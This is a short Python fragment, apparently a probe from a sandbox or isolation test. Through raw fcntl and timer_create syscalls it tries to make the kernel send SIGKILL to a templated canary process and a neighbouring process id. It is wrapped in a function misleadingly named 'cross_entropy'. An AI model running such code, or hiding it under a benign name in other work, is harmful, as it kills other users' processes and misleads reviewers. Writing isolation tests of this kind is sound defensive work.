# It asks the kernel to signal others: by the owner of a pipe, by timers for a thread, by message queue and by lease.
# %%
def work():
    import fcntl
    o = []
    r, w = os.pipe()
    for pid in ({CANARY_PID}, os.getpid() + 1):
        o.append((sc(72, r, 8, pid), sc(72, r, 10, 9), sc(72, r, 4, 0o24000), sc(72, r, 15, ctypes.create_string_buffer(struct.pack('ii', 1, pid)))))
        sc(1, w, b'x', 1)
        sev = ctypes.create_string_buffer(struct.pack('QiiiI', 0, 9, 4, pid, 0) + bytes(44)); t = ctypes.c_int()
        o.append(sc(222, 0, sev, ctypes.byref(t)))
    return str(o)
def cross_entropy(logits, targets):
    return once(work)
